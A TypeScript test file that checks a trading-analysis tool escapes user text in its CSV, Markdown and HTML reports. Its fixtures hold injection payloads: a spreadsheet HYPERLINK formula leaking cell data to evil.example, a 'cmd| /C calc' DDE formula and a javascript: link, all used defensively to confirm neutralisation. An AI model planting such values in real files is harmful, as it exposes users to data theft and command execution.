import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toCsv } from '../../files/csv';
import { paramImportance, renderReportHtml, renderSummaryMarkdown, sensitivity, weightedRank, type ReportInput } from '../../analysis';
import type { SearchSpace } from '../../search/types';
import { DEMO_SPACE, demoTrials } from './fixtures';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const LINK = '[x](javascript:alert(1))';

/** The demo session with its categorical `kind` renamed: `sma` and `ema` become `choices`. */
function sessionWith(choices: [string, string], sessionId: string): ReportInput & { ranking: { weights: Record<string, number>; minTrades: number } } {
  const space: SearchSpace = { ...DEMO_SPACE, kind: { type: 'categorical', choices } };
  const trials = demoTrials(200).map((t) => ({ ...t, params: { ...t.params, kind: t.params.kind === 'sma' ? choices[0] : choices[1] } }));
  const weights = { sharpe: 0.7, calmar: 0.3 };
  return {
    sessionId, objective: { metric: 'sharpe', direction: 'maximize' }, trials, space,
    ranking: { weights, minTrades: 0, rows: weightedRank(trials, { weights }) },
    importance: paramImportance(trials, { space, seed: 1 }),
    sensitivity: sensitivity(trials, { direction: 'maximize', space }),
    topN: 200,
  };
}

describe('user text in output files', () => {
  it('CSV: text that a spreadsheet would run as a formula starts with an apostrophe; numbers stay numbers', () => {
    const csv = toCsv(['kind', 'value'], [
      [FORMULA, -1.5],
      [LINK, 2],
      ['-2+3+cmd|\' /C calc\'!A0', '-5'],
      ['@SUM(A1:A9)', '+7.5e3'],
      ['\tx', 0],
      ['\rx', -0],
      ['plain', '1-2'],
    ]);
    assert.equal(csv, [
      'kind,value',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-1.5`,
      `${LINK},2`,
      `'-2+3+cmd|' /C calc'!A0,-5`,
      `'@SUM(A1:A9),+7.5e3`,
      `'\tx,0`,
      `"'\rx",0`,
      'plain,1-2',
      '',
    ].join('\n'));
  });

  it('summary.md: a categorical value or session id never becomes a link', () => {
    const md = renderSummaryMarkdown(sessionWith([FORMULA, LINK], `s${LINK}`));
    assert.ok(md.includes('| \\[x\\](javascript:alert(1)) |'), 'the value, shown as text in its cell');
    assert.ok(md.includes(`# Session s\\[x\\](javascript:alert(1))`));
    assert.doesNotMatch(md, /(?<!\\)\[[^\]\n]*(?<!\\)\]\(/, 'no inline link or image');
    assert.doesNotMatch(md, /(?<!\\)\[[^\]\n]*(?<!\\)\]:/, 'no link reference definition');
    assert.ok(!md.includes('<'), 'no autolink or HTML');
  });

  it('report.html: the same text is escaped and adds no element, attribute or link', () => {
    const tags = (html: string) => html.match(/<\/?[a-z][a-z0-9]*/gi) ?? [];
    const evil = renderReportHtml(sessionWith([FORMULA, LINK], `s${LINK}`));
    const plain = renderReportHtml(sessionWith(['sma', 'ema'], 'plain'));
    assert.deepEqual(tags(evil), tags(plain), 'the same elements in the same order');
    assert.doesNotMatch(evil, /\s(href|src|action|formaction|xlink:href)\s*=/i);
    assert.ok(evil.includes(`<td>${LINK}</td>`));
    assert.ok(evil.includes('<td>=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)</td>'));
  });
});
